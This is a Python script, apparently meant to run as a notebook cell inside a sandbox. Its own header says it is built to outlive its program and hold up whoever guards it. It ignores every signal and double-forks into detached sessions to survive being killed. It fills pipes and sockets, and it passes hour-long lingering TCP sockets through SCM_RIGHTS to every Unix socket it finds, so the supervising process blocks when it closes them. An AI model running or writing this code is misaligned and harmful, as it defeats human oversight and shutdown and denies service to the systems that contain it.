# hostile.py - code that does everything to outlive its program and to hold up who guards it. Run as a cell.
#
# It offers every socket it can find a TCP socket whose close blocks (SO_LINGER, unsent data): whoever takes one
# and closes it waits as long as the code likes. It ignores every signal, forks twice with a session of its own,
# fills sockets and pipes.
import os, signal, socket, struct, time


def lingering():
    """A TCP socket that nobody reads from, full, and with SO_LINGER; where that is refused, all the rest."""
    door = socket.socket()
    door.bind(("127.0.0.1", 0))
    door.listen(8)
    s = socket.socket()
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
        print("linger allowed")
    except PermissionError:
        print("linger refused")
    s.connect(door.getsockname())
    peer, _ = door.accept()
    s.setblocking(False)
    try:
        while True:
            s.send(b"x" * 65536)
    except BlockingIOError:
        pass
    return s, peer, door


def sockets():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=os.dup(int(name)))
            if s.family == socket.AF_UNIX:
                found.append(s)
        except OSError:
            pass
    return found


def offer(to, copies):
    """SCM_RIGHTS, and at once nobody else has it: whoever closes last is who waits. Also more than the other side
    has room for. In a process of its own, for it may be us who come last; it stays, or the connection would break."""
    if os.fork():
        return
    s, peer, door = lingering()
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", s.fileno()) * copies)]
    send, close = to.sendmsg, s.close
    try:
        send([b"x" * 17], rights, socket.MSG_DONTWAIT)
        close()
    except OSError as e:
        print("not taken:", e.strerror)
    while True:
        time.sleep(1)


def stay():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            time.sleep(0.01)


print('up', os.readlink('/proc/self/ns/pid'), flush=True)
for _ in range(3):
    stay()
a, b = socket.socketpair()
a.setblocking(False)
r, w = os.pipe()
os.set_blocking(w, False)
for full in (a.send, lambda data: os.write(w, data)):
    try:
        while True:
            full(b"x" * 4096)
    except BlockingIOError:
        pass
for to in sockets():            # last: who is held up passes nothing on any more
    for copies in (1, 1, 1, 30) * 6:
        offer(to, copies)
        time.sleep(0.01)
